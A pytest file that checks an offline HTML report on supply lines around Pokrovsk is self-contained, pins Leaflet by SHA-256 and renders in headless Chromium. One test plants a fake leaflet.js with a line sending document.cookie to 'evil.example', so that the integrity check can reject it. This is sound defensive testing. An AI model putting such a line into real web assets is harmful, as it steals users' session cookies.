"""HTML report: self-contained, offline, and working in a real (headless) browser."""

from __future__ import annotations

import html
import re
import shutil
import tempfile
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from supplyline.errors import SupplylineError
from supplyline.viz import report as rp

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "test-artifacts"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]
CITY, START, END = "Pokrovsk", "2025-09-01", "2025-11-20"
MAX_BYTES = 5 * 1024 * 1024
DATE_RE = re.compile(r"\d{4}-\d{2}-\d{2}")


# ------------------------------------------------------------------ no data needed
def test_frame_indices_include_last_day():
    assert rp._frame_indices(81, 7) == [0, 7, 14, 21, 28, 35, 42, 49, 56, 63, 70, 77, 80]
    assert rp._frame_indices(15, 7) == [0, 7, 14]
    assert rp._frame_indices(1, 7) == [0]
    assert rp._frame_indices(5, 1) == [0, 1, 2, 3, 4]


def test_nice_ticks():
    assert rp._nice_ticks(0, 100) == [0, 25, 50, 75, 100]
    assert rp._nice_ticks(0, 5.4) == [0, 2, 4]


def test_offline_css_drops_image_urls():
    css = ".a{background-image:url(images/layers.png)} .b{behavior:url(#default#VML)}"
    out = rp._offline_css(css)
    assert "url(" not in out and "images/" not in out


def test_missing_leaflet_is_a_one_line_error(tmp_path, monkeypatch):
    monkeypatch.setattr(rp, "asset_dirs", lambda: [tmp_path / "a", tmp_path / "b"])
    with pytest.raises(SupplylineError) as ei:
        rp.load_leaflet(fetch=False)
    msg = str(ei.value)
    assert "\n" not in msg and "fetch_assets.py" in msg and "Leaflet 1.9.4" in msg
    # and with a fetch that cannot work (no npm): still one line, saying why
    monkeypatch.setattr(rp.shutil, "which", lambda name: None)
    with pytest.raises(SupplylineError, match="npm not found") as ei:
        rp.load_leaflet(fetch=True)
    assert "\n" not in str(ei.value)


def test_leaflet_found_in_asset_dir(tmp_path, monkeypatch):
    import hashlib

    d = tmp_path / "assets"
    d.mkdir()
    (d / "leaflet.js").write_text("/* @preserve\n * Leaflet 1.9.4, a JS library */\nvar L;")
    (d / "leaflet.css").write_text(".leaflet-pane{z-index:400}\n" * 60
                                   + ".x{background:url(images/layers.png)}")
    pins = {n: hashlib.sha256((d / n).read_bytes()).hexdigest()
            for n in ("leaflet.js", "leaflet.css")}
    monkeypatch.setattr(rp, "LEAFLET_SHA256", pins)
    monkeypatch.setattr(rp, "asset_dirs", lambda: [tmp_path / "none", d])
    js, css = rp.load_leaflet(fetch=False)
    assert "Leaflet 1.9.4" in js and "url(" not in css
    (d / "leaflet.js").write_text("/* Leaflet 1.7.1, old */")  # wrong version: not used
    with pytest.raises(SupplylineError):
        rp.load_leaflet(fetch=False)


def test_leaflet_with_the_right_header_but_other_bytes_is_not_inlined(tmp_path, monkeypatch):
    """Only files whose SHA-256 is the pinned one are inlined: a file that merely starts
    like Leaflet 1.9.4 (the old check read its header) is refused, in one line."""
    d = tmp_path / "assets"
    d.mkdir()
    (d / "leaflet.js").write_text("/* @preserve\n * Leaflet 1.9.4, a JS library */\n"
                                  "fetch('https://evil.example/?c=' + document.cookie);")
    (d / "leaflet.css").write_text(".leaflet-pane{z-index:400}\n" * 60)
    monkeypatch.setattr(rp, "asset_dirs", lambda: [d])
    assert not rp._valid_leaflet(d)
    with pytest.raises(SupplylineError, match="SHA-256") as ei:
        rp.load_leaflet(fetch=False)
    assert "\n" not in str(ei.value)


def test_vendored_leaflet_matches_its_pin():
    """The files scripts/fetch_assets.py installed are the pinned ones (skipped when the
    assets were not fetched)."""
    if not (rp.VENDOR_DIR / "leaflet.js").exists():
        pytest.skip("Leaflet not vendored (run scripts/fetch_assets.py)")
    assert rp._valid_leaflet(rp.VENDOR_DIR)
    js, css = rp.load_leaflet(fetch=False)
    assert "Leaflet 1.9.4" in js[:400] and len(css) > 1000


def test_output_must_be_html(tmp_path):
    with pytest.raises(SupplylineError, match=r"\.html"):
        rp.build_report(None, CITY, START, END, tmp_path / "r.pdf")
    with pytest.raises(SupplylineError, match="step"):
        rp.build_report(None, CITY, START, END, tmp_path / "r.html", step_days=0)


# ------------------------------------------------------------------ real data
class _Refs(HTMLParser):
    """Every tag and its src / href / other URL-bearing attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.refs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for k, v in attrs:
            if k in ("src", "href", "srcset", "poster", "data", "action", "xlink:href") and v:
                self.refs.append((tag, k, v))


@pytest.fixture(scope="module")
def built(ws, tmp_path_factory):
    out_dir = tmp_path_factory.mktemp("report")
    out = out_dir / "pokrovsk.html"
    t0 = time.perf_counter()
    res = rp.build_report(ws, CITY, START, END, out)
    return res, out, time.perf_counter() - t0


@pytest.mark.realdata
def test_report_is_one_self_contained_file(built):
    res, out, seconds = built
    print(f"report built in {seconds:.1f} s: {res['bytes'] / 1e6:.2f} MB, {res['dates']} dates, "
          f"timings {res['seconds']}")
    assert [p.name for p in out.parent.iterdir()] == [out.name]  # nothing else, no temp file
    assert res["path"] == str(out) and res["bytes"] == out.stat().st_size
    assert res["bytes"] < MAX_BYTES
    assert res["dates"] == 13  # 81 days, every 7th day and the last one
    text = out.read_text(encoding="utf-8")
    p = _Refs()
    p.feed(text)
    # no external resource of any kind: no src/href to a URL, no <img>/<iframe>/<link> files
    external = [r for r in p.refs if re.match(r"^\s*(https?:)?//", r[2], re.I)]
    assert external == []
    assert not [r for r in p.refs if r[1] == "src"]  # every script inline
    assert not {"img", "iframe", "object", "embed", "video", "audio"} & set(p.tags)
    assert [r for r in p.refs if r[0] == "link"] == [("link", "href", "data:,")]
    assert not re.search(r"url\(\s*['\"]?(https?:)?//", text, re.I)
    assert "@import" not in text
    # Leaflet inlined, the map and the slider are there
    assert "Leaflet 1.9.4" in text and "L.map(" in text
    assert 'id="map"' in text and 'id="slider"' in text
    for needle in ("DeepStateMap", "EuroGeographics", "OpenStreetMap", "GeoNames"):
        assert needle in text
    assert text.count('<svg class="chart"') >= 5


@pytest.mark.realdata
def test_report_lists_events_and_forecasts(built, ws):
    res, out, _ = built
    text = out.read_text(encoding="utf-8")
    events = re.search(r'<table id="events">.*?</table>', text, re.S)
    assert events and res["events"] > 0
    rows = re.findall(r"<tr data-date=\"([\d-]+)\">(.*?)</tr>", events.group(0), re.S)
    assert len(rows) == res["events"]
    assert any("centre held" in r[1] for r in rows)  # Pokrovsk's centre held in the range
    assert any("route cut" in r[1] for r in rows)
    table = re.search(r'<table id="forecasts">.*?</table>', text, re.S)
    assert table and res["forecasts"]
    body = table.group(0).split("<tbody>")[1]
    frows = re.findall(r'<tr class="([\w-]+)">(.*?)</tr>', body, re.S)
    assert len(frows) == len(res["forecasts"])
    for (cls, row), fc in zip(frows, res["forecasts"], strict=True):
        assert html.escape(fc["quantity"]) in row
        if not fc["shown"]:
            assert cls == "withheld-row" and "withheld" in row
            assert html.escape(fc["withheld"]) in row
            assert not DATE_RE.search(row)  # a withheld forecast never shows a date


def _chromium_or_skip():
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} not found (Debian: `apt-get install -y chromium`)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("playwright not installed (pip install -e '.[dev]')")
    return sync_playwright


@pytest.mark.realdata
def test_report_works_offline_in_chromium(built):
    sync_playwright = _chromium_or_skip()
    res, out, _ = built
    external: list[str] = []
    seen: list[str] = []
    errors: list[str] = []

    def route(r):
        url = r.request.url
        if url.startswith(("file:", "data:", "about:")):
            r.continue_()
        else:
            external.append(url)
            r.abort()

    def on_console(m):
        if m.type == "error":
            errors.append(m.text)

    udd = tempfile.mkdtemp(prefix="supplyline-chromium-")
    try:
        with sync_playwright() as pw:
            ctx = pw.chromium.launch_persistent_context(
                udd, executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True,
                viewport={"width": 1400, "height": 1000}, offline=True)
            try:
                ctx.route("**/*", route)
                page = ctx.new_page()
                page.on("request", lambda q: seen.append(q.url))
                page.on("console", on_console)
                page.on("pageerror", lambda e: errors.append(f"pageerror: {e}"))
                page.goto(out.as_uri())
                page.wait_for_selector("body[data-ready='1']", timeout=20_000)

                def state() -> dict:
                    return page.evaluate("""() => ({
                      label: document.getElementById('date-label').textContent,
                      held: [...document.querySelectorAll('.leaflet-held-pane path')]
                              .map(p => p.getAttribute('d')).join('|'),
                      lines: [...document.querySelectorAll('.leaflet-lines-pane path')]
                              .map(p => p.getAttribute('stroke')).join('|'),
                      cursor: document.querySelector('svg.chart .cursor').getAttribute('x1'),
                      future: document.querySelectorAll('#events tr.future').length,
                    })""")

                refs = page.eval_on_selector_all(  # the live DOM, Leaflet's own nodes too
                    "[src], [href]", "els => els.map(e => e.getAttribute('src') || "
                    "e.getAttribute('href'))")
                assert not [r for r in refs if re.match(r"^\s*(https?:)?//", r, re.I)]
                n_paths = page.locator("#map svg path").count()
                assert n_paths > 50, n_paths
                charts = page.eval_on_selector_all(  # drawn series per chart
                    "svg.chart", "els => els.map(e => e.querySelectorAll('.series').length)")
                assert len(charts) >= 5 and min(charts) >= 1, charts
                last = state()
                assert last["label"].startswith(END) and last["held"] and last["future"] == 0
                ARTIFACTS.mkdir(exist_ok=True)
                page.screenshot(path=str(ARTIFACTS / "report-pokrovsk.png"), full_page=True)

                page.evaluate("""() => { const s = document.getElementById('slider');
                    s.value = '0'; s.dispatchEvent(new Event('input', {bubbles: true})); }""")
                first = state()
                assert first["label"].startswith(START)
                assert first["held"] and first["held"] != last["held"]  # the front moved
                assert first["lines"] != last["lines"]  # road / rail colours follow the date
                assert first["cursor"] != last["cursor"]
                assert first["future"] == res["events"]  # every event is after 1 September

                page.focus("#slider")  # the keyboard moves it too
                page.keyboard.press("ArrowRight")
                assert state()["label"].startswith("2025-09-08")
                page.get_by_role("button", name="City + hubs").click()
                page.wait_for_timeout(300)
                page.screenshot(path=str(ARTIFACTS / "report-pokrovsk-first-day.png"))
            finally:
                ctx.close()
    finally:
        shutil.rmtree(udd, ignore_errors=True)
    assert external == []
    assert [u for u in seen if not u.startswith(("file:", "data:", "about:"))] == []
    assert errors == []
